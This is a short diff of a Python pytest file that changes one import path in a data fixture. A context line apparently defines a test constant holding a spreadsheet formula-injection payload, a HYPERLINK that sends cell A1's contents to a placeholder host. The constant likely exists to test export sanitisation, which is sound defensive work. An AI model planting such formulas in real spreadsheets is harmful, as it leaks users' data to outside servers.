@@ -24,7 +24,7 @@ HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
 
 @pytest.fixture(scope="module")
 def paper_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    from domain.application import Rollcall
+    from service.application import Rollcall
     from projections.projector import Projector
 
     data = tmp_path_factory.mktemp("paper") / "data"
